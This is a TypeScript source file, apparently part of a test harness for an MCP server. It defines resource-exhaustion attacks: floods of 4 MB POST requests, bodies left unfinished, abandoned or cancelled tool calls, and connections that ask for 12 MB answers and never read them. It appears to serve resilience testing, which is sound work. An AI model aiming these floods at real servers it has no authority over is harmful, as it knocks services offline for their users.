// Messages that are large, many at once, abandoned, or whose answers nobody reads.
import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { SHARED, type Target } from './target.ts';
import {
  exchange,
  frame,
  get,
  helloFrame,
  message,
  modernPost,
  openSession,
  openWebSocket,
  post,
  postHead,
  Statuses,
  write,
} from './wire.ts';

const LARGE = 3_900_000;
const LARGER = 4_190_000;

function callOf(tool: string, args: object, id: number | string = 1): string {
  return message('tools/call', { name: tool, arguments: args }, id);
}

function largeCall(tool: string, bytes = LARGE, id: number | string = 1): string {
  return callOf(tool, { text: 'x'.repeat(bytes) }, id);
}

/** The same request from many connections at once, each again when it is answered. */
async function flood(target: Target, lanes: number, request: Buffer): Promise<string> {
  const statuses = new Statuses();
  await target.begin();
  await target.repeat(lanes, async () => statuses.add(await exchange(target, request)));
  return String(statuses);
}

/** Connections that send something and then neither read nor close. */
async function askAndIgnore(
  target: Target,
  count: number,
  open: () => Promise<Socket>,
): Promise<string> {
  await target.begin();
  let asked = 0;
  await target.repeat(count, async () => {
    const socket = await open();
    asked += 1;
    socket.pause();
    while (!target.isOver && !socket.destroyed) await target.wait(100);
  });
  return `${asked} answers were asked for`;
}

async function sharedPost(target: Target, body: string): Promise<Buffer> {
  const headers = await openSession(target, SHARED, 'attacker');
  return post(target, `${SHARED}/mcp`, body, { key: 'attacker', headers });
}

/** What somebody does whose calls are large: one after the other. */
async function oneByOne(target: Target, bytes: number): Promise<string> {
  return await flood(target, 1, await sharedPost(target, largeCall('echo', bytes)));
}

/** An open HTTP+SSE stream. @returns where its messages go */
async function openSse(target: Target): Promise<{ stream: Socket; path: string }> {
  const stream = await target.connect();
  await write(stream, get(target, `${SHARED}/sse`, 'attacker', 'Accept: text/event-stream\r\n'));
  const path = await new Promise<string>((resolve, reject) => {
    let text = '';
    stream.on('data', (chunk: Buffer) => {
      if (text.length < 10_000) text += chunk.toString('latin1');
      const found = /data: *(\S+messages\?\S+)/.exec(text)?.[1];
      if (found !== undefined) resolve(found);
    });
    stream.once('close', () => reject(new Error('closed')));
  });
  return { stream, path };
}

const BODIES: readonly Attack[] = [
  {
    name: 'posts-4mb',
    about: '100 POSTs of 4 MB at once in one session, again and again',
    run: async (target) => flood(target, 100, await sharedPost(target, largeCall('echo'))),
  },
  {
    name: 'posts-4mb-modern',
    about: '100 POSTs of 4 MB at once of a client without a session',
    run: (target) => {
      const args = { name: 'echo', arguments: { text: 'x'.repeat(LARGE) } };
      return flood(target, 100, modernPost(target, SHARED, 'tools/call', args));
    },
  },
  {
    name: 'posts-4mb-unfinished',
    about: '100 POSTs of 4 MB of which the last byte never comes',
    run: async (target) => {
      const request = (await sharedPost(target, largeCall('echo'))).subarray(0, -1);
      return await askAndIgnore(target, 100, async () => {
        const socket = await target.connect();
        await write(socket, request);
        return socket;
      });
    },
  },
  {
    name: 'posts-4mb-abandoned',
    about: '50 sides POST calls of 4 MB to a tool that never ends, and go away',
    run: async (target) => {
      const request = await sharedPost(target, largeCall('hang'));
      await target.begin();
      const posts = await target.repeat(50, async () => {
        const socket = await target.connect();
        await write(socket, request);
        await target.wait(50);
        socket.destroy();
      });
      return `${posts} POSTs`;
    },
  },
  {
    name: 'posts-60kb',
    about: '200 POSTs of 60 kB at once, which are too small to be counted one by one',
    run: async (target) => flood(target, 200, await sharedPost(target, largeCall('echo', 60_000))),
  },
  {
    name: 'posts-chunked',
    about: '100 POSTs of 4 MB at once that do not say how long they are',
    run: async (target) => {
      const headers = await openSession(target, SHARED, 'attacker');
      const body = Buffer.from(largeCall('echo'));
      const head = postHead(target, `${SHARED}/mcp`, { key: 'attacker', headers });
      const chunks = `${head}${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
      return await flood(target, 100, Buffer.from(chunks));
    },
  },
  {
    name: 'sse-posts-4mb',
    about: '20 HTTP+SSE streams with 5 POSTs of 4 MB at once each',
    run: async (target) => {
      const streams = await Promise.all(Array.from({ length: 20 }, () => openSse(target)));
      for (const { path } of streams) {
        const hello = {
          protocolVersion: '2024-11-05',
          capabilities: {},
          clientInfo: { name: 'a' },
        };
        const body = message('initialize', hello, 'hello');
        await exchange(target, post(target, path, body, { key: 'attacker' }));
      }
      const body = largeCall('echo');
      const statuses = new Statuses();
      await target.begin();
      await target.repeat(100, async (lane) => {
        const path = streams[lane % streams.length]?.path ?? '';
        statuses.add(await exchange(target, post(target, path, body, { key: 'attacker' })));
      });
      return String(statuses);
    },
  },
  {
    name: 'sse-posts-before-initialize',
    about: 'the same without initialize',
    run: async (target) => {
      const streams = await Promise.all(Array.from({ length: 20 }, () => openSse(target)));
      const body = largeCall('echo');
      const statuses = new Statuses();
      await target.begin();
      await target.repeat(100, async (lane) => {
        const path = streams[lane % streams.length]?.path ?? '';
        statuses.add(await exchange(target, post(target, path, body, { key: 'attacker' })));
      });
      return String(statuses);
    },
  },
];

const CALLS: readonly Attack[] = [
  {
    name: 'cancelled-calls',
    about: 'one WebSocket: a call with 3.9 MB, cancelled 60 ms later, again and again',
    run: async (target) => {
      let calls = 0;
      await target.begin();
      await target.repeat(1, async () => {
        const socket = await openWebSocket(target, SHARED, 'attacker');
        socket.resume();
        await write(socket, helloFrame());
        while (!target.isOver && !socket.destroyed) {
          calls += 1;
          await write(socket, frame('text', largeCall('hang', LARGE, calls)));
          await target.wait(60);
          const cancel = message('notifications/cancelled', { requestId: calls });
          await write(socket, frame('text', cancel));
        }
      });
      return `${calls} calls`;
    },
  },
  {
    name: 'cancelled-modern-calls',
    about: '4 sides: a call with 3.9 MB whose client goes away 60 ms later, again and again',
    run: async (target) => {
      const args = { name: 'hang', arguments: { text: 'x'.repeat(LARGE) } };
      const request = modernPost(target, SHARED, 'tools/call', args);
      await target.begin();
      const calls = await target.repeat(4, async () => {
        const socket = await target.connect();
        await write(socket, request);
        await target.wait(60);
        socket.destroy();
      });
      return `${calls} calls`;
    },
  },
  {
    name: 'bulk-calls',
    about: 'one WebSocket with 18 calls of 4.19 MB at once; the victim calls the same server',
    victimServer: 'shared',
    harmless: (target) => oneByOne(target, LARGER),
    run: async (target) => {
      const call = frame('text', largeCall('echo', LARGER));
      await target.begin();
      const rounds = await target.repeat(1, async () => {
        const socket = await openWebSocket(target, SHARED, 'attacker');
        socket.resume();
        await write(socket, helloFrame());
        for (let n = 0; n < 18; n += 1) socket.write(call);
        await target.wait(2000);
        socket.destroy();
      });
      return `${rounds} times 18 calls`;
    },
  },
  {
    name: 'bulk-calls-sessions',
    about: '4 sessions with 60 calls of 0.5 MB each at once; the victim calls the same server',
    victimServer: 'shared',
    harmless: (target) => oneByOne(target, 500_000),
    run: async (target) => {
      const sessions = await Promise.all(
        Array.from({ length: 4 }, () => openSession(target, SHARED, 'attacker')),
      );
      const requests = sessions.map((headers) =>
        post(target, `${SHARED}/mcp`, largeCall('echo', 500_000), { key: 'attacker', headers }),
      );
      const statuses = new Statuses();
      await target.begin();
      await target.repeat(240, async (lane) => {
        const request = requests[lane % requests.length];
        if (request !== undefined) statuses.add(await exchange(target, request));
      });
      return String(statuses);
    },
  },
];

const ANSWERS: readonly Attack[] = [
  {
    name: 'unread-answers',
    about: '200 connections ask for 12 MB each and read nothing',
    run: async (target) => {
      const request = await sharedPost(target, callOf('big', { bytes: 12_000_000 }));
      return await askAndIgnore(target, 200, async () => {
        const socket = await target.connect();
        await write(socket, request);
        return socket;
      });
    },
  },
  {
    name: 'unread-ws-answers',
    about: '90 WebSockets ask for 12 MB each and read nothing',
    run: (target) => {
      const call = frame('text', callOf('big', { bytes: 12_000_000 }));
      return askAndIgnore(target, 90, async () => {
        const socket = await openWebSocket(target, SHARED, 'attacker');
        await write(socket, helloFrame());
        await write(socket, call);
        return socket;
      });
    },
  },
  {
    name: 'unread-sse-answers',
    about: '90 HTTP+SSE streams ask for 12 MB each and read nothing',
    run: (target) => {
      const body = callOf('big', { bytes: 12_000_000 });
      const hello = { protocolVersion: '2024-11-05', capabilities: {}, clientInfo: { name: 'a' } };
      return askAndIgnore(target, 90, async () => {
        const { stream, path } = await openSse(target);
        const initialize = message('initialize', hello, 'hello');
        await exchange(target, post(target, path, initialize, { key: 'attacker' }));
        stream.pause();
        await exchange(target, post(target, path, body, { key: 'attacker' }));
        return stream;
      });
    },
  },
  {
    name: 'slow-answers',
    about: '100 connections ask for 12 MB each and read a little at a time',
    run: async (target) => {
      const request = await sharedPost(target, callOf('big', { bytes: 12_000_000 }));
      await target.begin();
      const asked = await target.repeat(100, async () => {
        const socket = await target.connect();
        await write(socket, request);
        while (!target.isOver && !socket.destroyed) {
          socket.read(16_384);
          await target.wait(100);
        }
      });
      return `${asked} answers`;
    },
  },
  {
    name: 'read-answers',
    about: '20 connections ask for 12 MB each and read it, again and again',
    run: async (target) =>
      flood(target, 20, await sharedPost(target, callOf('big', { bytes: 12_000_000 }))),
  },
  {
    name: 'unread-replay',
    about: '40 sessions ask for 12 MB on streams that break at once, and never come back',
    run: async (target) => {
      const sessions = await Promise.all(
        Array.from({ length: 40 }, () => openSession(target, SHARED, 'attacker')),
      );
      const body = callOf('big', { bytes: 12_000_000 });
      const requests = sessions.map((headers) =>
        post(target, `${SHARED}/mcp`, body, { key: 'attacker', headers }),
      );
      await target.begin();
      const asked = await target.repeat(40, async (lane) => {
        const socket = await target.connect();
        await write(socket, requests[lane] ?? '');
        await target.wait(20);
        socket.destroy();
      });
      return `${asked} answers`;
    },
  },
];

export const LARGE_MESSAGES: readonly Attack[] = [...BODIES, ...CALLS, ...ANSWERS];
